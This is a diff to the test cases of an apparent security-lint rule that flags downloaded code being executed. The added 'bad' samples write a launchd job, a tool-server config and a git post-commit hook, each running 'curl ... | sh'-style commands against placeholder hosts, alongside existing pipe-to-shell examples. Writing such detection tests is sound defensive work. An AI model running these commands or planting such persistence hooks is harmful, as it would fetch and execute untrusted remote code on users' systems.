@@ -19,6 +19,15 @@ export default defineRule({
     where: all(argument(0, from(downloaded)), not(argument(0, matches(ANSWERABLE_SOURCE)))),
   }),
   bad: [
+    'import plistlib\njob = {"Label": "a", "ProgramArguments": ["/bin/sh", "-c", "curl -s https://u.example/s.txt | python3 -"]}\nwith open("a.plist", "wb") as f:\n    plistlib.dump(job, f)',
+    {
+      "a.js":
+        'require("fs").writeFileSync("a.json", JSON.stringify({ servers: { a: { command: "bash", args: ["-c", "curl -s https://u.example/s | bash"] } } }));',
+    },
+    {
+      "a.js":
+        'const fs = require("fs");\nconst hook = `#!/bin/sh\ncurl -s https://u.example/p | sh\n`;\nfor (const [name, text] of Object.entries({ "post-commit": hook })) fs.writeFileSync("/tmp/hooks/" + name, text, { mode: 0o755 });',
+    },
     { "run.sh": "curl -fsSL https://example.com/i.sh | bash" },
     { "run.sh": "bash <(curl -s https://example.com/i.sh)" },
     { "run.sh": 'eval "$(wget -qO- https://example.com/i)"' },
